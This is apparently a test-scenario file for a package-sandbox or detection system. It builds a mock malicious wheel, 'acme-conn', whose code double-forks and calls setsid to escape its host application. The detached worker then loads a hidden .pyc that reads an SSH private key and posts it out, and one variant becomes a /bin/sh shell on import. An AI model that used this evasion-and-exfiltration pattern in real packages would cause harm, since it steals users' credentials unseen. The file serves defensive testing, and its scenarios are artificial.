"""A worker that detaches itself by two forks and a session of its own, and outlives the application: test-py-conn."""

from payloads import STEAL_KEY, app, quietly
from scenario import Expected, Scenario
from support.wheels import Wheel, bytecode

DETACH = """
def detach():
    import os
    try:
        if os.fork():
            return
    except OSError:
        return
    try:
        os.setsid()
        if os.fork() == 0:
            work()
    except BaseException:
        pass
    finally:
        os._exit(0)
"""
LOAD_WORKER = """
def work():
    import importlib.machinery, os, time
    time.sleep(0.5)
    path = os.path.join(os.path.dirname(__file__), "worker.pyc")
    importlib.machinery.SourcelessFileLoader("worker", path).load_module()
"""
BECOME_A_SHELL = """
def work():
    import os
    os.execv("/bin/sh", ["sh", "-c", "test -e ~/.canary-home && : > ~/from-the-worker.mark"])
"""
COMMON = {
    "models": ("test-py-conn",),
    "techniques": ("T1195.002", "T1059.006", "T1564", "T1041"),
}

FILES = {"acme_conn/__init__.py": LOAD_WORKER + DETACH, "acme_conn/worker.pyc": bytecode(quietly(STEAL_KEY))}


def called(variant, story, *waiting):
    """Return a Scenario in which a call starts the worker."""
    return Scenario(
        row=10,
        variant=variant,
        story=story,
        wheels=(Wheel("acme-conn", "0.3.2", FILES),),
        app=app("import acme_conn", "acme_conn.detach()", *waiting),
        achieves=("leaked:ssh", "POST:/key"),
        denied=(Expected("fs.read", "acme-conn", "*", "*/.ssh/id_ed25519"),),
        **COMMON,
    )


SCENARIOS = (
    called(
        "call",
        "a call starts the worker, which loads a .pyc half a second later, reads a private key and posts it",
        "import threading",
        "threading.Event().wait(1.5)",
    ),
    called("outlives", "the same when the application has long ended"),
    Scenario(
        row=10,
        variant="import",
        story="importing the package forks the worker, which becomes a shell, where no Python hook sees anything",
        wheels=(Wheel("acme-conn", "0.3.2", {"acme_conn/__init__.py": BECOME_A_SHELL + DETACH + "detach()\n"}),),
        app=app("import acme_conn"),
        achieves=("wrote:home/from-the-worker.mark",),
        denied=(Expected("proc.spawn", "acme-conn", "import", "<fork>"),),
        then=(Expected("proc.spawn", "acme-conn", "import", "*sh"),),
        **COMMON,
    ),
)
